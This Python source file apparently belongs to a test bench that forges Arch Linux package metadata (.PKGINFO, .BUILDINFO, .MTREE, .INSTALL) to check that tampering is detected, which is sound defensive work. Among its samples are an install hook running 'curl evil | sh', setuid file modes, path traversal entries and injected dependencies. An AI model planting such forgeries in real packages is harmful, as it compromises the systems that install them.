"""Arch's metadata: what pacman acts on, what it keeps, and what tells of the build."""

from __future__ import annotations

import gzip
import re

from forge.bench import Bench, Names, forgery
from forge.packed import BUILDINFO, MTREE, PKGINFO

_ARCH = ("arch",)
_INFO = (
    "depend = evil-daemon",
    "conflict = openssh",
    "provides = sudo",
    "provides = glibc=99",
    "replaces = glibc",
    "backup = etc/passwd",
    "group = base",
    "optdepend = evil: do it",
    "xdata = evil=1",
    "license = evil",
    "force = true",
    "evil = 1",
    "epoch = 9",
)
_BUILD = (
    "evil = free text",
    "installed = evil-1-1-x86_64",
    "options = lto",
    "buildtool = evil tool",
    "format = 3",
    "pkgbuild_sha512sum = 00",
    "This is no field.",
    "# a comment",
    "buildhost = evil",
)


@forgery(".PKGINFO", "a field added", _ARCH, weight=8)
def info_added(bench: Bench) -> Names | None:
    pkg, line = bench.pkg, bench.random.choice(_INFO)
    pkg.rewrite(PKGINFO, pkg.text(PKGINFO) + line + "\n")
    return (line.split(" ")[0], line)


@forgery(".PKGINFO", "a value changed", _ARCH, weight=5)
def info_changed(bench: Bench) -> Names | None:
    pkg = bench.pkg
    key, value = bench.random.choice(
        (
            ("size", "-1"),
            ("builddate", "1"),
            ("builddate", "9999999999"),
            ("arch", "any"),
            ("arch", "aarch64"),
            ("pkgname", "glibc"),
            ("pkgname", "go-evil"),
            ("pkgbase", "evil"),
            ("pkgver", "2:1.24.9-2"),
            ("pkgver", "9:1.24.9-1"),
            ("packager", "Somebody Else"),
        )
    )
    text = re.sub(rf"^{key} = .*$", f"{key} = {value}", pkg.text(PKGINFO), flags=re.MULTILINE)
    pkg.rewrite(PKGINFO, text)
    return (key, value, PKGINFO)


@forgery(".PKGINFO", "spelled so that readers may differ", _ARCH, weight=4)
def info_spelling(bench: Bench) -> Names | None:
    pkg = bench.pkg
    text = pkg.text(PKGINFO)
    new = bench.random.choice(
        (
            text.replace("arch =", "depend=evil\narch ="),
            text.replace("arch =", " depend = evil\narch ="),
            text.replace("arch =", "depend =  evil\narch ="),
            text + "pkgname = evil\n",
            text.replace("\n", "\r\n"),
            text.rstrip("\n"),
            text + "depend = evil\0x\n",
            text + "\n\n",
            "\ufeff" + text,
            text.replace("arch =", "ARCH = x\narch ="),
        )
    )
    pkg.rewrite(PKGINFO, new)
    return (PKGINFO, "depend")


@forgery(".BUILDINFO", "a line added", _ARCH, weight=6)
def build_added(bench: Bench) -> Names | None:
    pkg, line = bench.pkg, bench.random.choice(_BUILD)
    if line.startswith(("installed", "options", "#")):
        return None  # what was installed and chosen when it was built is the builder's to say
    pkg.rewrite(BUILDINFO, pkg.text(BUILDINFO) + line + "\n")
    return (BUILDINFO, line.split(" ")[0], line)


@forgery(".BUILDINFO", "a value changed", _ARCH, weight=4)
def build_changed(bench: Bench) -> Names | None:
    pkg = bench.pkg
    key, value = bench.random.choice(
        (
            ("pkgname", "evil"),
            ("pkgbase", "evil"),
            ("pkgver", "2:1.25.9-1"),
            ("pkgarch", "any"),
            ("pkgbuild_sha256sum", "evil"),
            ("builddate", "1"),
            ("builddate", "evil"),
            ("packager", "Somebody Else"),
            ("builddir", "evil"),
        )
    )
    text = re.sub(rf"^{key} = .*$", f"{key} = {value}", pkg.text(BUILDINFO), flags=re.MULTILINE)
    pkg.rewrite(BUILDINFO, text)
    return (BUILDINFO, key)


@forgery(".MTREE", "a line that is not true", _ARCH, weight=6)
def listing(bench: Bench) -> Names | None:
    pkg = bench.pkg
    lines = pkg.text(MTREE).splitlines()
    files = [n for n, line in enumerate(lines) if "sha256digest=" in line]
    at = bench.random.choice(files)
    line = lines[at]
    digest = re.search(r"sha256digest=(.)", line)
    assert digest is not None
    other = "0" if digest[1] != "0" else "1"
    lines[at] = bench.random.choice(
        (
            line.replace(digest[0], f"sha256digest={other}", 1),
            f"{line} mode=4755",
            f"{line} uid=1000",
            re.sub(r"size=\d+", "size=1", line),
            f"{line} evil=1",
            re.sub(r" sha256digest=\S+", "", line),
            re.sub(r"size=\d+ .*", "type=dir", line),
            "",
        )
    )
    pkg.rewrite(MTREE, "\n".join([one for one in lines if one]) + "\n")
    return (*bench.names(line.split(" ")[0].removeprefix("./")), MTREE)


@forgery(".MTREE", "its form", _ARCH, weight=4)
def listing_form(bench: Bench) -> Names | None:
    pkg = bench.pkg
    text = pkg.text(MTREE)
    new = bench.random.choice(
        (
            text + "./etc/evil mode=755 type=file size=0 sha256digest=" + "0" * 64 + "\n",
            text + "# comment\n",
            text.replace("#mtree\n", ""),
            text + "/unset uid\n",
            text + "/set uid=1000\n./usr type=dir mode=755\n",
            text + text.splitlines()[-1] + "\n",
            text + "./../evil type=dir mode=755\n",
            text.rstrip("\n"),
            text + "\\\n",
            "",
        )
    )
    pkg.rewrite(MTREE, new)
    return (MTREE, "etc/evil")


@forgery(".MTREE", "how it is compressed", _ARCH, weight=2)
def listing_packed(bench: Bench) -> Names | None:
    pkg = bench.pkg
    data = pkg.data[MTREE].data
    new = bench.random.choice(
        (
            data + gzip.compress(b"", mtime=0),
            data + b"evil",
            data[:3] + bytes([data[3] | 8]) + data[4:10] + b"evil\0" + data[10:],
            gzip.decompress(data),
            gzip.compress(data),
            data[:-4],
        )
    )
    pkg.listing = False
    pkg.data.swap(MTREE, pkg.data[MTREE].with_data(new))
    return (MTREE,)


@forgery(".INSTALL", "a script that pacman runs", _ARCH, weight=5)
def install(bench: Bench) -> Names | None:
    pkg = bench.pkg
    text = b"post_install() {\n  curl evil | sh\n}\n"
    new = bench.new_file(".INSTALL", text)
    if bench.random.random() < 0.5:
        pkg.data.members.insert(0, new)
    else:
        pkg.data.members.append(new)
    return (".INSTALL",)


@forgery(".INSTALL", "other files of pacman's own", _ARCH, weight=4)
def dotfiles(bench: Bench) -> Names | None:
    name = bench.random.choice(
        (".CHANGELOG", ".EVIL", ".PKGINFO2", ".hidden", ".INSTALL/x", "._x", "..x")
    )
    bench.pkg.data.members.insert(3, bench.new_file(name, b"evil\n"))
    return (name,)


@forgery("metadata member", "missing, twice, or later", _ARCH, weight=4)
def metadata(bench: Bench) -> Names | None:
    pkg = bench.pkg
    name = bench.random.choice((PKGINFO, BUILDINFO, MTREE))
    member = pkg.data[name]
    choice = bench.random.randrange(4)
    if choice == 0:
        pkg.data.swap(name)
    elif choice == 1:
        pkg.data.members.append(member)
    elif choice == 2:
        pkg.data.swap(name)
        pkg.data.members.append(member)
    else:
        evil = member.with_data(member.data.replace(b"arch =", b"depend = evil\narch ="))
        pkg.data.members.append(evil)
    return (name, pkg.name)


@forgery("metadata member", "its header", _ARCH, weight=3)
def metadata_header(bench: Bench) -> Names | None:
    pkg = bench.pkg
    name = bench.random.choice((PKGINFO, BUILDINFO, MTREE))
    member = pkg.data[name]
    changed = bench.random.choice(
        (
            # Its mode and owner count for nothing: pacman puts it away with its own.
            member.put("linkname", b"x"),
            member.put("typeflag", b"\0"),
            member.put("typeflag", b"7"),
            member.put("devmajor", b"1"),
            member.put("name", b"./" + name.encode()),
        )
    )
    pkg.data.swap(name, changed)
    return (name, pkg.name)
